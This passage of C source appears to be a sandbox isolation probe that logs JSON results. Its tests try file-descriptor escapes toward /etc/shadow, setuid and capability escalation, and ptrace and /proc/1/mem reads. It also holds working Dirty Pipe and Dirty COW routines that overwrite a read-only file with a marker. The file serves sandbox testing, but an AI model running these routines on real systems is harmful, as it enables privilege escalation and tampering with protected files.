		*err = errno;
		return -1;
	}
	if (chdir("../../../../..") < 0 || !getcwd(cwd, sizeof cwd)) {
		*err = errno;
		return -2;
	}
	/* reached some directory through the fd: 0 means "/" of our root */
	return open("etc/shadow", O_RDONLY) >= 0 ? 1 : 0;
}

static int cmd_fds(void)
{
	int fds[1024];
	int nfds = 0, i;
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	char path[64], target[4096];
	ssize_t n;

	if (!d) {
		emit("fds", "opendir", -1, errno);
		return 1;
	}
	while ((de = readdir(d)) && nfds < 1024) {
		char *endp;
		long fd = strtol(de->d_name, &endp, 10);

		if (*endp || de->d_name[0] == '.' || fd == dirfd(d))
			continue;
		fds[nfds++] = (int)fd;
	}
	closedir(d);
	for (i = 0; i < nfds; i++) {
		struct stat st;
		int fd = fds[i];
		char name[32];

		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = 0;
		snprintf(name, sizeof name, "%d", fd);
		begin("fds", name);
		printf(",\"fd\":%d,\"target\":", fd);
		jstr(target);
		if (fstat(fd, &st) == 0)
			printf(",\"type\":\"%s\",\"dev\":%lu,\"ino\":%lu",
			       S_ISDIR(st.st_mode) ? "dir" : S_ISREG(st.st_mode) ? "reg" :
			       S_ISCHR(st.st_mode) ? "chr" : S_ISFIFO(st.st_mode) ? "fifo" :
			       S_ISSOCK(st.st_mode) ? "sock" : S_ISLNK(st.st_mode) ? "lnk" : "other",
			       (unsigned long)st.st_dev, (unsigned long)st.st_ino);
		printf(",\"flags\":%d", fcntl(fd, F_GETFL));
		end();
		if (fd <= 2)
			continue;
		{
			int r;

			snprintf(name, sizeof name, "%d:openat_dotdot", fd);
			errno = 0;
			r = openat(fd, "..", O_RDONLY | O_DIRECTORY);
			emit("fds", name, r, errno);
			if (r >= 0)
				close(r);
			snprintf(name, sizeof name, "%d:openat_shadow", fd);
			errno = 0;
			r = openat(fd, "../../../etc/shadow", O_RDONLY);
			emit("fds", name, r, errno);
			if (r >= 0)
				close(r);
			snprintf(name, sizeof name, "%d:fchdir", fd);
			forked("fds", name, fchdir_case, &fd);
		}
	}
	begin("fds", "summary");
	printf(",\"count\":%d", nfds);
	n = readlink("/proc/self/cwd", target, sizeof target - 1);
	target[n < 0 ? 0 : n] = 0;
	printf(",\"cwd\":");
	jstr(target);
	n = readlink("/proc/self/root", target, sizeof target - 1);
	target[n < 0 ? 0 : n] = 0;
	printf(",\"root\":");
	jstr(target);
	end();
	return 0;
}

/* ------------------------------------------------------------- identity */

/* CapBnd from /proc/self/status, 0 when unreadable */
static uint64_t cap_bounding(void)
{
	char line[256];
	uint64_t v = 0;
	FILE *f = fopen("/proc/self/status", "r");

	if (!f)
		return 0;
	while (fgets(line, sizeof line, f))
		if (strncmp(line, "CapBnd:", 7) == 0)
			v = strtoull(line + 7, NULL, 16);
	fclose(f);
	return v;
}

/*
 * identity [userns]: A4.  "userns" (control only) first unshares a user
 * namespace so that the uid_map write has an unwritten map to hit.
 */
static int cmd_identity(int argc, char **argv)
{
	gid_t g0 = 0;
	struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct cd[2];
	uint64_t want = cap_bounding();
	int fd;
	long r;

	if (argc > 2 && strcmp(argv[2], "userns") == 0) {
		errno = 0;
		r = syscall(SYS_unshare, (long)CLONE_NEWUSER);
		emit("identity", "control_unshare_user", r, errno);
	}
	fd = open("/proc/self/uid_map", O_WRONLY);
	if (fd < 0) {
		emit("identity", "uid_map_write", -1, errno);
	} else {
		errno = 0;
		r = write(fd, "0 0 1\n", 6);
		emit("identity", "uid_map_write", r, errno);
		close(fd);
	}
	errno = 0;
	r = syscall(SYS_setuid, 0);
	emit("identity", "setuid0", r, errno);
	errno = 0;
	r = syscall(SYS_setresuid, 0, 0, 0);
	emit("identity", "setresuid000", r, errno);
	errno = 0;
	r = syscall(SYS_setgid, 0);
	emit("identity", "setgid0", r, errno);
	errno = 0;
	r = syscall(SYS_setgroups, 1, &g0);
	emit("identity", "setgroups0", r, errno);
	/*
	 * capset raising every capability the bounding set still offers, or
	 * all of 0..40 when it offers none (the box): never a no-op request.
	 */
	if (want == 0)
		want = (1ULL << 41) - 1;
	memset(cd, 0, sizeof cd);
	cd[0].effective = cd[0].permitted = cd[0].inheritable = (uint32_t)want;
	cd[1].effective = cd[1].permitted = cd[1].inheritable = (uint32_t)(want >> 32);
	errno = 0;
	r = syscall(SYS_capset, &h, cd);
	emit("identity", "capset_all", r, errno);
	errno = 0;
	r = prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
	emit("identity", "clear_no_new_privs", r, errno);
	errno = 0;
	r = prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21 /* CAP_SYS_ADMIN */, 0, 0);
	emit("identity", "ambient_raise_sys_admin", r, errno);
	memset(cd, 0, sizeof cd);
	syscall(SYS_capget, &h, cd);
	begin("identity", "after");
	printf(",\"uid\":%u,\"euid\":%u,\"gid\":%u,\"no_new_privs\":%d,\"cap_eff\":\"%08x%08x\"",
	       getuid(), geteuid(), getgid(), prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
	       cd[1].effective, cd[0].effective);
	end();
	return 0;
}

/* --------------------------------------------------------------- ptrace */

static volatile long ptrace_target_word = 0x5ec7e7;

static long traceme_case(const void *arg, int *err)
{
	long r;

	errno = 0;
	r = syscall(SYS_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0);
	*err = errno;
	return r;
}

static void ptrace_pid(const char *what, pid_t pid)
{
	char name[64];
	long r;

	snprintf(name, sizeof name, "attach_%s", what);
	errno = 0;
	r = syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0);
	emit("ptrace", name, r, errno);
	if (r == 0) {
		waitpid(pid, NULL, __WALL);
		syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0);
	}
	snprintf(name, sizeof name, "seize_%s", what);
	errno = 0;
	r = syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, pid, 0, 0);
	emit("ptrace", name, r, errno);
	if (r == 0)
		syscall(SYS_ptrace, 17, pid, 0, 0);
}

static void read_proc_file(const char *name, const char *path, off_t off)
{
	char buf[256];
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0) {
		emit("ptrace", name, -1, errno);
		return;
	}
	errno = 0;
	n = off ? pread(fd, buf, sizeof buf, off) : read(fd, buf, sizeof buf);
	emit("ptrace", name, n, errno);
	close(fd);
}

static int cmd_ptrace(int argc, char **argv)
{
	int pid1 = argc > 2 && strcmp(argv[2], "pid1") == 0;
	long word = 0;
	struct iovec l = { &word, sizeof word };
	struct iovec rv = { (void *)&ptrace_target_word, sizeof word };
	pid_t sib;
	long r;
	char path[64];

	forked("ptrace", "traceme", traceme_case, NULL);
	sib = fork();
	if (sib == 0) {
		for (;;)
			pause();
	}
	if (sib < 0)
		return 1;
	ptrace_pid("sibling", sib);
	errno = 0;
	r = syscall(SYS_process_vm_readv, sib, &l, 1UL, &rv, 1UL, 0UL);
	emit("ptrace", "process_vm_readv_sibling", r, errno);
	snprintf(path, sizeof path, "/proc/%d/mem", (int)sib);
	read_proc_file("read_mem_sibling", path, (off_t)(uintptr_t)&ptrace_target_word);
	kill(sib, SIGKILL);
	waitpid(sib, NULL, 0);
	if (pid1) {
		ptrace_pid("pid1", 1);
		read_proc_file("read_mem_pid1", "/proc/1/mem", 0x400000);
		read_proc_file("read_environ_pid1", "/proc/1/environ", 0);
	}
	return 0;
}

/* -------------------------------------------------------------- seccomp */

static long stacked_case(const void *arg, int *err)
{
	unsigned long flags = *(const unsigned long *)arg;
	struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	struct sock_fprog prog = { 1, &allow };
	long r;

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	errno = 0;
	r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
	printf("{\"group\":\"seccomp\",\"name\":\"install_flags_%lu\"", flags);
	result(r, errno);
	end();
	errno = 0;
	r = syscall(SYS_keyctl, 6, 0, BAD, 16, 0);
	emit("seccomp", flags ? "listener:keyctl" : "allow:keyctl", r, errno);
	errno = 0;
	r = syscall(SYS_unshare, -1L);
	emit("seccomp", flags ? "listener:unshare" : "allow:unshare", r, errno);
	errno = 0;
	r = syscall(SYS_mount, BAD, BAD, BAD, 0, BAD);
	emit("seccomp", flags ? "listener:mount" : "allow:mount", r, errno);
	errno = 0;
	r = syscall(SYS_unshare, (long)CLONE_NEWUSER);
	emit("seccomp", flags ? "listener:unshare_newuser" : "allow:unshare_newuser", r, errno);
	return 0;
}

static int cmd_seccomp(void)
{
	unsigned long plain = 0, listener = SECCOMP_FILTER_FLAG_NEW_LISTENER;

	forked("seccomp", "allow_all_child", stacked_case, &plain);
	forked("seccomp", "listener_child", stacked_case, &listener);
	return 0;
}

/* ------------------------------------------------------------ dirtypipe */

static int cmd_dirtypipe(int argc, char **argv)
{
	static const char payload[] = "DIRTYPIPE";
	static char buf[65536];
	int fd, p[2];
	loff_t off = 0;
	long sz, left;
	ssize_t r;

	if (argc < 3)
		return 2;
	fd = open(argv[2], O_RDONLY);
	if (fd < 0) {
		emit("dirtypipe", "open", -1, errno);
		return 0;
	}
	if (pipe(p) < 0)
		return 1;
	sz = fcntl(p[1], F_GETPIPE_SZ);
	/* mark every pipe_buffer slot CAN_MERGE, then empty the pipe */
	for (left = sz; left > 0; left -= (long)sizeof buf)
		if (write(p[1], buf, left > (long)sizeof buf ? sizeof buf : (size_t)left) < 0)
			break;
	for (left = sz; left > 0; left -= (long)sizeof buf)
		if (read(p[0], buf, left > (long)sizeof buf ? sizeof buf : (size_t)left) <= 0)
			break;
	errno = 0;
	r = splice(fd, &off, p[1], NULL, 1, 0);
	emit("dirtypipe", "splice", r, errno);
	errno = 0;
	r = write(p[1], payload, sizeof payload - 1);
	emit("dirtypipe", "write", r, errno);
	close(p[0]);
	close(p[1]);
	errno = 0;
	r = pread(fd, buf, 64, 0);
	begin("dirtypipe", "after");
	printf(",\"changed\":%s", r > 10 && memcmp(buf + 1, payload, sizeof payload - 1) == 0 ? "true" : "false");
	end();
	close(fd);
	return 0;
}

/* ------------------------------------------------------------- dirtycow */

static volatile int cow_stop;
static char *cow_map;
static size_t cow_len;
static long cow_madv, cow_writes;

static void *cow_madvise(void *arg)
{
	while (!cow_stop) {
		madvise(cow_map, cow_len, MADV_DONTNEED);
		cow_madv++;
	}
	return arg;
}

static void *cow_write(void *arg)
{
	int fd = *(int *)arg;
	static const char payload[] = "DIRTYCOW";

	while (!cow_stop) {
		if (pwrite(fd, payload, sizeof payload - 1, (off_t)(uintptr_t)cow_map) > 0)
			cow_writes++;
	}
	return NULL;
}

static int cmd_dirtycow(int argc, char **argv)
{
	int fd, mem;
	struct stat st;
	pthread_t a, b;
	unsigned secs = argc > 3 ? (unsigned)strtoul(argv[3], NULL, 10) : 3;
	char buf[16];

	if (argc < 3)
		return 2;
	fd = open(argv[2], O_RDONLY);
	if (fd < 0 || fstat(fd, &st) < 0) {
		emit("dirtycow", "open", -1, errno);
		return 0;
	}
	cow_len = (size_t)st.st_size;
	cow_map = mmap(NULL, cow_len, PROT_READ, MAP_PRIVATE, fd, 0);
	if (cow_map == MAP_FAILED) {
		emit("dirtycow", "mmap", -1, errno);
		return 0;
	}
	mem = open("/proc/self/mem", O_RDWR);
	emit("dirtycow", "open_proc_self_mem", mem, errno);
	if (mem < 0)
		return 0;
	pthread_create(&a, NULL, cow_madvise, NULL);
	pthread_create(&b, NULL, cow_write, &mem);
	sleep(secs);
	cow_stop = 1;
	pthread_join(a, NULL);
	pthread_join(b, NULL);
	memset(buf, 0, sizeof buf);
	if (pread(fd, buf, 8, 0) < 0)
		buf[0] = 0;
	begin("dirtycow", "after");
	printf(",\"madvise\":%ld,\"writes\":%ld,\"changed\":%s", cow_madv, cow_writes,
	       memcmp(buf, "DIRTYCOW", 8) == 0 ? "true" : "false");
	end();
	return 0;
}

/* --------------------------------------------------------------- limits */

static void count_until_fail(const char *name, int kind)
{
	int n = 0, e = 0;
	int fds[2];

	for (;;) {
		int r;

		errno = 0;
		switch (kind) {
		case 0:
			r = open("/dev/null", O_RDONLY);
			break;
		case 1:
			r = pipe(fds);
			break;
		case 2:
			r = eventfd(0, 0);
			break;
		default:
			r = inotify_init1(0);
			if (r >= 0 && inotify_add_watch(r, "/tmp", IN_ALL_EVENTS) < 0) {
				e = errno;
				close(r);
				r = -1;
				errno = e;
			}
			break;
		}
		if (r < 0) {
			e = errno;
			break;
		}
		n++;
		if (n > 1000000)
			break;
	}
	begin("limits", name);
	printf(",\"count\":%d,\"errno\":%d,\"err\":\"%s\"", n, e, ename(e));
	end();
}

static void close_from(int lowfd)
{
	struct rlimit rl;

	if (syscall(SYS_close_range, lowfd, ~0U, 0) == 0)
		return;
	/* a kernel without close_range (gVisor's of 2022: ENOSYS): one by one */
	if (getrlimit(RLIMIT_NOFILE, &rl) < 0 || rl.rlim_cur == RLIM_INFINITY || rl.rlim_cur > 1 << 20)
		rl.rlim_cur = 1 << 20;
	for (int fd = lowfd; fd < (int)rl.rlim_cur; fd++)
		close(fd);
}

/* limits MARKER FSIZE_MB FILE: rlimits, clocks, kmsg, syslog */
static int cmd_limits(int argc, char **argv)
{
	const char *marker = argc > 2 ? argv[2] : "probe-marker";
	long mb = argc > 3 ? strtol(argv[3], NULL, 10) : 0;
	const char *file = argc > 4 ? argv[4] : "/tmp/probe-fsize";
	struct rlimit rl;
	char buf[4096];
	long r;
	int fd;
	pid_t sib;

	getrlimit(RLIMIT_NOFILE, &rl);
	begin("limits", "rlimit_nofile");
	printf(",\"soft\":%lld,\"hard\":%lld", (long long)rl.rlim_cur, (long long)rl.rlim_max);
	end();
	getrlimit(RLIMIT_FSIZE, &rl);
	begin("limits", "rlimit_fsize");
	printf(",\"soft\":%lld,\"hard\":%lld", (long long)rl.rlim_cur, (long long)rl.rlim_max);
	end();
	count_until_fail("open_until_fail", 0);
	close_from(3);
	count_until_fail("pipes_until_fail", 1);
	close_from(3);
	count_until_fail("eventfds_until_fail", 2);
	close_from(3);
	count_until_fail("inotify_until_fail", 3);
	close_from(3);

	getrlimit(RLIMIT_NOFILE, &rl);
	if (rl.rlim_max != RLIM_INFINITY)
		rl.rlim_max += 1;
	rl.rlim_cur = rl.rlim_max;
	errno = 0;
	r = setrlimit(RLIMIT_NOFILE, &rl);
	emit("limits", "setrlimit_above_hard", r, errno);

	sib = fork();
	if (sib == 0) {
		for (;;)
			pause();
	}
	if (sib > 0) {
		struct rlimit cur, nw;

		prlimit(sib, RLIMIT_NOFILE, NULL, &cur);
		nw = cur;
		if (nw.rlim_max != RLIM_INFINITY)
			nw.rlim_max += 1;
		nw.rlim_cur = nw.rlim_max;
		errno = 0;
		r = prlimit(sib, RLIMIT_NOFILE, &nw, NULL);
		emit("limits", "prlimit_sibling_above_hard", r, errno);
		kill(sib, SIGKILL);
		waitpid(sib, NULL, 0);
	}
	errno = 0;
	r = syscall(SYS_clock_settime, CLOCK_REALTIME, BAD);
	emit("limits", "clock_settime", r, errno);
	errno = 0;
	r = syscall(SYS_settimeofday, BAD, BAD);
	emit("limits", "settimeofday", r, errno);
	errno = 0;
	r = syscall(SYS_syslog, 3 /* READ_ALL */, buf, (long)sizeof buf);
	emit("limits", "syslog_read_all", r > 0 ? 0 : r, errno);
	fd = open("/dev/kmsg", O_WRONLY);
	if (fd < 0) {
		emit("limits", "kmsg_write", -1, errno);
	} else {
		errno = 0;
		r = write(fd, marker, strlen(marker));
		emit("limits", "kmsg_write", r, errno);
		close(fd);
	}
	if (mb > 0) {
		long written = 0;
		int e = 0;

		signal(SIGXFSZ, SIG_IGN);
		fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0600);
		if (fd < 0) {
			emit("limits", "fsize_open", -1, errno);
		} else {
			memset(buf, 'F', sizeof buf);
			while (written < mb * 1048576L) {
				ssize_t w = write(fd, buf, sizeof buf);

				if (w <= 0) {
					e = w < 0 ? errno : ENOSPC;
					break;
				}
				written += w;
			}
			close(fd);
			unlink(file);
			begin("limits", "fsize_write");
			printf(",\"written\":%ld,\"errno\":%d,\"err\":\"%s\"", written, e, e ? ename(e) : "");
			end();
		}
	}
	return 0;
}

/* ----------------------------------------------------------------- main */

static void usage(void)
{
	fprintf(stderr,
		"usage: probe syscalls|x32|int80|clone|ioctl [std|vt]|personality|sockets|highnr|\n"
		"             status|threads N SECS|fds|identity [userns]|ptrace [pid1]|seccomp|\n"
		"             dirtypipe FILE|dirtycow FILE SECS|limits MARKER MB FILE|all\n");
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOFBF, 1 << 16);
	if (strcmp(c, "syscalls") == 0)
		return cmd_syscalls();
	if (strcmp(c, "x32") == 0)
		return cmd_x32();
	if (strcmp(c, "int80") == 0)
		return cmd_int80();
	if (strcmp(c, "clone") == 0)
		return cmd_clone();
	if (strcmp(c, "ioctl") == 0)
		return cmd_ioctl(argc, argv);
	if (strcmp(c, "personality") == 0)
		return cmd_personality();
	if (strcmp(c, "sockets") == 0)
		return cmd_sockets();
	if (strcmp(c, "highnr") == 0)
		return cmd_highnr();
	if (strcmp(c, "status") == 0)
		return cmd_status();
	if (strcmp(c, "threads") == 0)
		return cmd_threads(argc, argv);
	if (strcmp(c, "fds") == 0)
		return cmd_fds();
	if (strcmp(c, "identity") == 0)
		return cmd_identity(argc, argv);
	if (strcmp(c, "ptrace") == 0)
		return cmd_ptrace(argc, argv);
	if (strcmp(c, "seccomp") == 0)
		return cmd_seccomp();
	if (strcmp(c, "dirtypipe") == 0)
		return cmd_dirtypipe(argc, argv);
	if (strcmp(c, "dirtycow") == 0)
		return cmd_dirtycow(argc, argv);
	if (strcmp(c, "limits") == 0)
		return cmd_limits(argc, argv);
	if (strcmp(c, "all") == 0) {
		cmd_syscalls();
		cmd_x32();
		cmd_int80();
		cmd_clone();
		cmd_personality();
		cmd_sockets();
		cmd_highnr();
		return 0;
	}
	usage();
	return 2;
}
